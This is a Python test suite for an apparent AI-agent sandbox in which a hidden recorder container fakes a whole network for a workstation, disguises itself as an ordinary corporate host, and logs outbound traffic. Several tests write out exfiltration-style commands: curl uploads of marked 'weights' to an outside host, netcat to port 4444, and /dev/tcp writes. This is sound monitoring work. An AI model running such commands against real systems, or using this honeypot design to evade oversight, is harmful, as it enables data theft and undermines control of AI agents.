"""The real thing: a workstation whose only network is the witness, in two containers."""

from __future__ import annotations

import contextlib
import hashlib
import subprocess
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from afagent import images
from afagent.sandboxes.recorder import events
from afagent.sandboxes.recorder.marks import Marker
from afagent.sandboxes.recorder.plan import to_json

from .conftest import KEY, PLAN, STORE, Record, weights

pytestmark = pytest.mark.docker

WITNESS = Path(__file__).parent / "witness.py"
CAPABILITIES = ("NET_ADMIN", "NET_RAW", "SYS_ADMIN", "CHOWN", "FOWNER", "DAC_OVERRIDE", "SETPCAP")
IMAGES = {
    name: service["image"] for name, service in yaml.safe_load(images.COMPOSE_FILE.read_text())["services"].items()
}
PATIENCE_SECONDS = 180
"""On a machine that is busy with other things."""
HARD = ("--init", "--cap-drop", "ALL", "--security-opt", "no-new-privileges:true")


def docker(*arguments: str, data: bytes = b"", check: bool = True) -> bytes:
    done = subprocess.run(["docker", *arguments], input=data, capture_output=True, check=False, timeout=180)
    assert done.returncode == 0 or not check, done.stderr.decode()
    return done.stdout


@dataclass
class Topology:
    """The two containers."""

    recorder: str
    workstation: str

    def run(self, script: str, data: bytes = b"") -> str:
        """What a shell script on the workstation prints."""
        return docker(
            "exec", "-i", self.workstation, "timeout", "150", "bash", "-c", f"{script} 2>&1", data=data, check=False
        ).decode()

    def record(self) -> Record:
        """Everything recorded so far."""
        lines = docker("exec", self.recorder, "cat", "/run/recorder/events.jsonl").decode().splitlines()
        return Record([events.from_line(line).fact for line in lines])

    def status(self) -> dict[str, str]:
        """What the kernel says of the witness's process."""
        find = "for each in /proc/[0-9]*; do grep -qs python3 $each/comm && cat $each/status && break; done"
        lines = docker("exec", self.recorder, "sh", "-c", find).decode().splitlines()
        return {name: rest.strip() for name, _, rest in (line.partition(":") for line in lines)}

    def resident(self) -> int:
        """Kilobytes that the witness had in memory at most so far."""
        return int(self.status()["VmHWM"].split()[0])


@contextlib.contextmanager
def brought_up() -> Iterator[Topology]:
    images.build(tell=lambda _: None)
    name = f"afagent-test-{uuid.uuid4().hex[:8]}"
    pair = Topology(f"{name}-recorder", f"{name}-workstation")
    capabilities = [part for each in CAPABILITIES for part in ("--cap-add", each)]
    try:
        docker(
            "run", "-d", "--name", pair.recorder, "--network", "none", "--hostname", "wk-07", "-m", "1536m", *HARD,
            *capabilities, "-e", f"PLAN={to_json(PLAN)}", IMAGES["recorder"], "python3", "-c", WITNESS.read_text(),
        )  # fmt: skip
        wait_for(pair, "ready")
        docker(
            "run", "-d", "--name", pair.workstation, "--network", f"container:{pair.recorder}", *HARD,
            "--tmpfs", "/tmp", IMAGES["default"], "sleep", "infinity",
        )  # fmt: skip
        pair.run("cat > /tmp/ca.pem", docker("exec", pair.recorder, "cat", "/run/recorder/ca.pem"))
        yield pair
    finally:
        docker("rm", "-f", pair.workstation, pair.recorder, check=False)


@pytest.fixture(scope="module")
def topology() -> Iterator[Topology]:
    with brought_up() as pair:
        yield pair


def wait_for(pair: Topology, what: str) -> None:
    """Ask the witness until it has come so far; one that has ended never will."""
    until = time.monotonic() + PATIENCE_SECONDS
    while not docker("exec", pair.recorder, "sh", "-c", f"test -e /run/recorder/{what} && echo yes", check=False):
        running = docker("inspect", "-f", "{{.State.Running}}", pair.recorder).strip() == b"true"
        assert running, docker("logs", pair.recorder).decode()
        assert time.monotonic() < until, docker("logs", pair.recorder).decode()
        time.sleep(0.1)


def test_the_workstation_looks_like_an_ordinary_host(topology: Topology) -> None:
    assert topology.run("cat /etc/resolv.conf") == "search core.tarnvale.io\nnameserver 10.20.3.5\n"
    assert topology.run("hostname -f").strip() == "wk-07.core.tarnvale.io"
    assert "default via 10.20.3.1 dev eth0" in topology.run("ip route")
    assert "fd20:1::37" in topology.run("ip -6 addr show eth0")
    assert "ocker" not in topology.run("cat /etc/hosts /etc/resolv.conf")


def test_nothing_of_the_witness_is_visible_from_the_workstation(topology: Topology) -> None:
    assert len(topology.run("ss -Htlnu").splitlines()) == 0
    assert len(topology.run("ss -Hxl").splitlines()) == 0
    assert "up0" not in topology.run("ip link; cat /proc/net/dev")
    assert topology.run("cat /proc/net/raw /proc/net/raw6 /proc/net/packet | grep -cv 'sl\\|sk'").strip() == "0"
    assert "recorder" not in topology.run("cat /proc/*/cmdline | tr '\\0' ' '")


def test_the_witness_has_no_capability_for_the_network_left(topology: Topology) -> None:
    caps = {name: int(value, 16) for name, value in topology.status().items() if name.startswith("Cap")}
    assert caps["CapPrm"] == caps["CapEff"] == caps["CapBnd"] == 0b1011  # CHOWN, DAC_OVERRIDE, FOWNER
    assert caps["CapAmb"] == caps["CapInh"] == 0


@pytest.mark.parametrize(
    "url",
    [
        "http://anything.example.org:8081/",
        "http://192.0.2.7/",
        "http://[2a01:4f8::7]:9000/",
        "http://box.fernhollow.net/",
    ],
)
def test_every_http_address_answers(topology: Topology, url: str) -> None:
    assert topology.run(f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' '{url}'") == "200"


@pytest.mark.parametrize(
    "url", ["https://anything.example.org/", "https://192.0.2.7:8443/", "https://[2a01:4f8::7]/", f"https://{STORE}/"]
)
def test_every_https_address_answers_with_a_certificate_of_its_own(topology: Topology, url: str) -> None:
    assert topology.run(f"curl -sS -m 5 --cacert /tmp/ca.pem -o /dev/null -w '%{{http_code}}' '{url}'") == "200"


def test_weights_uploaded_to_an_outside_host_are_proven(topology: Topology) -> None:
    data = weights(Marker(KEY), 500)
    answer = topology.run("curl -sS -m 9 --cacert /tmp/ca.pem -T - https://box.fernhollow.net/in/x", data)
    assert answer == ""
    content = topology.record().of(events.Content)[-1]
    assert (content.name, content.address, content.port) == ("box.fernhollow.net", "85.7.9.11", 443)
    assert (content.part, content.target, content.blocks) == ("body", "/in/x", {"0": "0-499"})


@pytest.mark.parametrize("address", ["5.6.7.8", "2a01:4f8::8"])
def test_raw_tcp_to_any_port_is_taken_whole(topology: Topology, address: str) -> None:
    data = weights(Marker(KEY), 100)
    topology.run(f"nc -N -w 5 {address} 4444", data)
    closed = next(each for each in topology.record().of(events.Closed) if each.address == address)
    assert (closed.port, closed.protocol, closed.sent) == (4444, "raw", len(data))
    assert closed.sha256 == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("address", ["5.6.7.9", "2a01:4f8::9"])
def test_datagrams_to_any_port_are_taken_large_ones_too(topology: Topology, address: str) -> None:
    topology.run(f"head -c 8000 /dev/zero > /dev/udp/{address}/777; echo hi | nc -u -w 1 {address} 777")
    record = topology.record()
    assert [(each.transport, each.port) for each in record.of(events.Opened) if each.address == address] == [
        ("udp", 777)
    ]


def test_names_resolve_over_udp_and_tcp_and_from_any_server(topology: Topology) -> None:
    over_udp = topology.run("dig +short files.example.org")
    assert over_udp.count(".") == 3
    assert topology.run("dig +tcp +short files.example.org") == over_udp
    assert topology.run("dig @9.9.9.9 +short files.example.org") == over_udp
    assert topology.run("dig @2620:fe::fe +short files.example.org") == over_udp
    assert "NXDOMAIN" in topology.run("dig nothing-here.core.tarnvale.io")
    assert topology.run("dig +short -x 10.20.3.44").strip() == f"{STORE}."
    assert topology.run(f"getent ahostsv4 {STORE}").startswith("10.20.3.44")
    lookups = [each for each in topology.record().of(events.Lookup) if each.name == "files.example.org"]
    assert [each.answer for each in lookups] == [over_udp.strip()] * 4


@pytest.mark.parametrize("address", ["1.1.1.1", "2a01:4f8::1"])
def test_ping_works_and_what_it_carries_is_recorded(topology: Topology, address: str) -> None:
    assert " 0% packet loss" in topology.run(f"ping -n -c 2 -i 0.2 -s 3000 -W 2 {address}")
    opened = [each for each in topology.record().of(events.Opened) if each.address == address]
    assert [each.transport for each in opened] == ["icmp"]


def test_nothing_answers_that_the_witness_does_not_play(topology: Topology) -> None:
    # A connection to the host or another container would be refused or time out; here it is the witness that answers.
    for address in ("172.17.0.1", "169.254.169.254", "10.20.3.1"):
        assert topology.run(f"curl -s -m 5 -o /dev/null -w '%{{http_code}}' http://{address}:2375/") == "200"
        assert any(each.address == address for each in topology.record().of(events.Opened))


def test_a_large_upload_takes_flat_memory_and_is_counted_right(topology: Topology) -> None:
    size = 200 << 20
    topology.run("head -c 20000000 /dev/zero | curl -sS -T - http://warm.example.org/up")
    before = topology.resident()
    answer = topology.run(
        f"head -c {size} /dev/zero | curl -sS -m 120 -T - http://big.example.org/up -w '%{{http_code}}'"
    )
    assert answer == "200"
    assert topology.resident() - before < 16_000
    request = next(each for each in topology.record().of(events.Request) if each.host == "big.example.org")
    assert request.body_bytes == size
    assert request.body_sha256 == hashlib.sha256(bytes(size)).hexdigest()


FLOOD = """
import socket, resource, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for i in range(10000):
    client = socket.socket()
    client.settimeout(20)
    client.connect(("7.7.%d.%d" % (i // 250, i % 250 + 1), 1000 + i % 7))
    client.send(b"x%d" % i)
    held.append(client)
print(len(held))
"""


def test_ten_thousand_connections_at_once_do_not_stop_it(topology: Topology) -> None:
    assert topology.run("python3 -", FLOOD.encode()).strip() == "10000"
    assert topology.run("curl -sS -m 20 -o /dev/null -w '%{http_code}' http://after.example.org/") == "200"
    record = topology.record()
    assert sum(each.address.startswith("7.7.") for each in record.of(events.Opened)) == 10000
    assert any("not looked at" in each.what for each in record.of(events.Limit))


def test_when_all_is_over_every_flow_is_closed_with_its_totals() -> None:
    with brought_up() as pair:
        docker("exec", "-d", pair.workstation, "bash", "-c", "exec 3<>/dev/tcp/5.6.7.8/4444; printf held >&3; sleep 60")
        docker("exec", "-d", pair.workstation, "bash", "-c", "printf sent > /dev/udp/5.6.7.9/555")
        pair.run("curl -sS http://box.fernhollow.net/; ping -c 1 1.1.1.1; head -c 100000 /dev/zero | nc -N 5.6.7.10 99")
        until = time.monotonic() + PATIENCE_SECONDS
        while len(pair.record().of(events.Opened)) < 6 and time.monotonic() < until:
            time.sleep(0.1)
        docker("kill", "--signal", "TERM", pair.recorder)
        wait_for(pair, "stopped")
        record = pair.record()
    assert not record.of(events.Fault)
    opened, closed = record.of(events.Opened), record.of(events.Closed)
    assert sorted(each.flow for each in opened) == sorted(each.flow for each in closed)
    sent = {(each.address, each.port): each.sent for each in closed}
    assert sent[("5.6.7.8", 4444)] == 4
    assert sent[("5.6.7.9", 555)] == 4
    assert sent[("5.6.7.10", 99)] == 100_000
    assert sent[("1.1.1.1", 0)] == 56
